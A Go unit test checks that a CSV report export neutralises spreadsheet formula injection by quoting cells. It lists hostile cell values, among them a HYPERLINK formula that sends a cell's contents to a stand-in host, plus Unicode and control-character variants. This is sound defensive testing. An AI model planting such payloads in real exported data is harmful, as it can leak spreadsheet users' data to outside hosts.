package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"callgate/internal/pricing"
	"callgate/internal/stats"
)

// TestNoCellOfCallsIsAFormula in any column: the upstream's model is often what the caller wrote.
func TestNoCellOfCallsIsAFormula(t *testing.T) {
	for _, evil := range []string{
		`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\n", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1", "\u00a0=1", "\u200b=1", "\x00=1",
	} {
		var c stats.Call
		c.Model, c.UpstreamModel, c.EndedBy, c.UsageState, c.AnswerID = evil, evil, evil, evil, evil
		c.Reason = &stats.FailureReason{Type: evil, Code: evil, Message: &evil}
		var out bytes.Buffer
		file, err := NewSheet(&out, CallColumns)
		if err != nil {
			t.Fatal(err)
		}
		if out.Len() != 0 {
			t.Error("something is sent before there is a line")
		}
		if err := file.Line(append(exportLine(c), costCells(pricing.NewBook(nil), c)...)); err != nil {
			t.Fatal(err)
		}
		if err := file.Flush(); err != nil {
			t.Fatal(err)
		}
		text, marked := bytes.CutPrefix(out.Bytes(), []byte("\xef\xbb\xbf"))
		lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
		if err != nil || !marked || len(lines) != 2 || !slices.Equal(lines[0], CallColumns) {
			t.Fatalf("%q %v", out.Bytes(), err)
		}
		quoted := 0
		for _, cell := range lines[1] {
			if strings.HasPrefix(cell, "'") {
				quoted++
			}
		}
		if quoted != 8 {
			t.Errorf("%q: %d cells are quoted of %q", evil, quoted, lines[1])
		}
	}
	for _, plain := range []string{"", "gpt-5", "a=b", "余额不足", " words", "1-2", "'=1", `{"a":"=1"}`} {
		if got := noFormula(plain); got != plain {
			t.Errorf("%q became %q", plain, got)
		}
	}
}
